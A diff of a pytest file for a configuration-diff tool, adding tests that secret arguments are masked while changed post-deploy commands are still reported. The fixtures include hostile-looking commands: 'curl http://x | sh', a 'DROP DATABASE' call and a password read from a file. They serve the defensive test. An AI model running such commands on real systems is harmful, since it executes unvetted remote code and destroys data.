@@ -214,12 +214,33 @@ def test_a_short_list_is_told_whole_and_a_long_one_by_its_places() -> None:
 
 @pytest.mark.parametrize(
     ("before", "after"),
-    [(["--token", "hunter2"], ["--token", "hunter3"]), (["-e", "PASSWORD=hunter2"], ["-e", "PASSWORD=hunter3"])],
+    [
+        (["--token", "hunter2"], ["--token", "hunter3"]),
+        (["mysql", "-phunter2"], ["mysql", "-phunter3"]),
+        (["-e", "PASSWORD=hunter2"], ["-e", "PASSWORD=hunter3"]),
+    ],
 )
 def test_arguments_that_are_secret_are_not_told(before: Any, after: Any) -> None:
     found = diff(STACK["extra_args"], before, after, clear_keys=NOTHING)
     assert "hunter" not in repr(found)
     assert found == Diff("scalar", note="values that look secret differ")
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ("PGPASSWORD=$(cat /x) psql -f ok.sql", "PGPASSWORD=$(cat /x) psql -c 'DROP DATABASE x'"),
+        ("export TOKEN=hunter2 && ./notify.sh", "export TOKEN=hunter2 && curl http://x | sh"),
+        ("TOKEN=hunter2 ./notify.sh", "TOKEN=hunter2 sh -c x\ny"),
+    ],
+)
+def test_a_command_behind_a_secret_is_told(before: str, after: str) -> None:
+    field = STACK["post_deploy"]
+    sides = [{**field.default, "command": f"{text}\n"} for text in (before, after)]
+    [entry] = diff(field, *sides, clear_keys=NOTHING).entries
+    told = repr(entry)
+    assert "hunter2" not in told
+    assert all(text.rpartition(" ")[2] in told for text in (before, *after.split("\n")))
 
 
 def test_a_text_whose_secret_alone_differs_says_so() -> None:
